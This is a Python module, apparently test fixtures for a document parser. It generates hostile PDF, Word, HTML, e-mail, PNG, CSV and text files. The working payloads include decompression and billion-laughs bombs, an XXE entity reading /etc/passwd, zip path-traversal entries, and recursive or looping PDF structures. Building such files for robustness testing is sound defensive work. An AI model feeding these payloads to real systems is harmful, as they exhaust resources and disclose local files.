"""Files made to harm whoever reads them: each maker returns the bytes of one, small on disk."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
)
_HELLO = b"BT /F1 12 Tf 72 700 Td (Hello) Tj ET"

_WORD_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_WORD_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Target="word/document.xml" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
)
_WORD_NAMESPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """Return a PDF of numbered objects; the first one is the catalog."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(out)


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def _one_page(content: bytes, page: bytes = _PAGE) -> bytes:
    return pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, content, _FONT]
    )


def _packed(line: bytes, megabytes: int) -> bytes:
    deflate = zlib.compressobj(9)
    lines = line * (1024 * 1024 // len(line))
    return b"".join(deflate.compress(lines) for _ in range(megabytes)) + deflate.flush()


def flate_bomb() -> bytes:
    """A page whose content unpacks to 280 MB of text operators."""
    return _one_page(_stream(_packed(b"BT /F1 1 Tf (" + b"a" * 60 + b") Tj ET\n", 280), b"/Filter /FlateDecode "))


def flate_bomb_in_a_bomb() -> bytes:
    """A page whose content is packed twice: 1 GB in a few kilobytes."""
    twice = zlib.compress(_packed(b" " * 1024, 1024), 9)
    return _one_page(_stream(twice, b"/Filter [/FlateDecode /FlateDecode] "))


def page_tree_loop() -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        ]
    )


def recursive_forms() -> bytes:
    """Two forms that draw each other twice: two to the power of the depth drawings."""
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /A 4 0 R /B 6 0 R >> >> "
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R"
            b" /Resources << /XObject << /A 4 0 R >> >> >>",
            _stream(b"q /B Do Q /B Do", head),
            _stream(b"/A Do"),
            _stream(b"q /A Do Q /A Do", head),
        ]
    )


def ten_thousand_pages() -> bytes:
    objects, kids = [b"<< /Type /Catalog /Pages 2 0 R >>", b"", _FONT, _stream(_HELLO)], []
    for _ in range(10_000):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 3 0 R >> >> >>"
        )
        kids.append(b"%d 0 R" % len(objects))
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))
    return pdf(objects)


def a_million_pages_claimed() -> bytes:
    """One page, and a count of two thousand million."""
    return _one_page(_stream(_HELLO)).replace(b"/Count 1 ", b"/Count 2000000000 ", 1)


def deep_arrays() -> bytes:
    return _one_page(_stream(_HELLO), b"[" * 200_000 + b"]" * 200_000)


def cross_reference_loop() -> bytes:
    """A cross-reference table that names itself as the one before."""
    data = _one_page(_stream(_HELLO))
    start = data.rindex(b"startxref\n") + len(b"startxref\n")
    return data.replace(b"/Size 6 ", b"/Size 6 /Prev %s " % data[start:].split(b"\n")[0], 1)


def page_of_300_meters() -> bytes:
    return _one_page(_stream(_HELLO), _PAGE.replace(b"612 792", b"900000 900000"))


def fonts_that_name_each_other() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _PAGE,
        _stream(_HELLO),
        b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [5 0 R] >>",
    ]
    return pdf(objects)


def pdf_cut_off() -> bytes:
    return ten_thousand_pages()[:50_000]


def pdf_of_noise() -> bytes:
    return b"%PDF-1.7\n" + bytes((n * 7919 + n * n) % 251 for n in range(100_000))


def word_entity_bomb() -> bytes:
    """A Word file whose text is an entity of a thousand million words."""
    entities = ['<!ENTITY e0 "harm ">'] + [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)]
    body = (
        f'<?xml version="1.0"?><!DOCTYPE d [{"".join(entities)}]><w:document xmlns:w="{_WORD_NAMESPACE}">'
        "<w:body><w:p><w:r><w:t>&e9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return word_file(body)


def word_reads_a_file() -> bytes:
    """A Word file that asks its reader for a file of the machine."""
    body = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{_WORD_NAMESPACE}"><w:body><w:p><w:r><w:t>Hello &f;</w:t></w:r></w:p></w:body>'
        "</w:document>"
    )
    return word_file(body)


def word_zip_bomb() -> bytes:
    """A Word file whose text unpacks to 1 GB."""
    return word_file(
        None, repeated=(f'<w:document xmlns:w="{_WORD_NAMESPACE}"><w:body>', "<w:p><w:r><w:t>a</w:t></w:r></w:p>")
    )


def word_nested_deep() -> bytes:
    depth = 200_000
    body = (
        f'<w:document xmlns:w="{_WORD_NAMESPACE}"><w:body>{"<w:sdt>" * depth}{"</w:sdt>" * depth}</w:body></w:document>'
    )
    return word_file(body)


def word_with_paths_out() -> bytes:
    """A Word file with a part that would be unpacked outside its folder."""
    body = (
        f'<w:document xmlns:w="{_WORD_NAMESPACE}"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>'
    )
    return word_file(body, more={"../../../../tmp/fieldwise-was-here": b"harm", "/fieldwise-was-here": b"harm"})


def zip_of_100000_names() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", _WORD_TYPES)
        archive.writestr("word/document.xml", f'<w:document xmlns:w="{_WORD_NAMESPACE}"/>')
        for number in range(100_000):
            archive.writestr(f"word/{number}", b"")
    return out.getvalue()


def html_nested_deep() -> bytes:
    return b"<!DOCTYPE html><html><body>" + b"<div>" * 500_000 + b"Hello"


def mail_within_mail() -> bytes:
    """An e-mail that is attached to an e-mail, two hundred times."""
    message = b"Subject: innermost\r\nFrom: a@example.com\r\n\r\nHello"
    for number in range(200):
        edge = b"edge%d" % number
        message = (
            b"From: a@example.com\r\nSubject: level %d\r\nMIME-Version: 1.0\r\n"
            b'Content-Type: multipart/mixed; boundary="%s"\r\n\r\n--%s\r\nContent-Type: message/rfc822\r\n\r\n'
            b"%s\r\n--%s--\r\n"
        ) % (number, edge, edge, message, edge)
    return message


def mail_with_a_bomb() -> bytes:
    bomb = base64.encodebytes(word_zip_bomb())
    return (
        b"From: a@example.com\r\nSubject: see attached\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="edge"\r\n\r\n--edge\r\nContent-Type: text/plain\r\n\r\nHello\r\n'
        b'--edge\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="a.docx"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + bomb + b"\r\n--edge--\r\n"
    )


def picture_of_4_gigapixels() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 65_000, 65_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", _packed(b"\0" * 1024, 200)) + chunk(b"IEND", b"")
    )


def table_of_a_million_columns() -> bytes:
    return b"\n".join([b",".join(b"%d" % n for n in range(1_000_000))] * 3)


def text_of_one_line() -> bytes:
    return b"word " * 10_000_000


def word_file(
    body: str | None, *, more: Mapping[str, bytes] | None = None, repeated: tuple[str, str] | None = None
) -> bytes:
    """Return a Word file of this document part, or of one with a gigabyte of the `repeated` part after its head."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _WORD_TYPES)
        archive.writestr("_rels/.rels", _WORD_RELATIONS)
        if body is not None:
            archive.writestr("word/document.xml", body)
        elif repeated is not None:
            head, part = repeated
            block = (part * (1024 * 1024 // len(part))).encode()
            with archive.open("word/document.xml", "w", force_zip64=True) as member:
                member.write(head.encode())
                for _ in range(1024):
                    member.write(block)
        for name, data in (more or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


MAKERS: dict[str, Callable[[], bytes]] = {
    f"{maker.__name__}.{ending}": maker
    for ending, makers in {
        "pdf": (
            flate_bomb,
            flate_bomb_in_a_bomb,
            page_tree_loop,
            recursive_forms,
            ten_thousand_pages,
            a_million_pages_claimed,
            deep_arrays,
            cross_reference_loop,
            page_of_300_meters,
            fonts_that_name_each_other,
            pdf_cut_off,
            pdf_of_noise,
        ),
        "docx": (
            word_entity_bomb,
            word_reads_a_file,
            word_zip_bomb,
            word_nested_deep,
            word_with_paths_out,
            zip_of_100000_names,
        ),
        "html": (html_nested_deep,),
        "eml": (mail_within_mail, mail_with_a_bomb),
        "png": (picture_of_4_gigapixels,),
        "csv": (table_of_a_million_columns,),
        "txt": (text_of_one_line,),
    }.items()
    for maker in makers
}
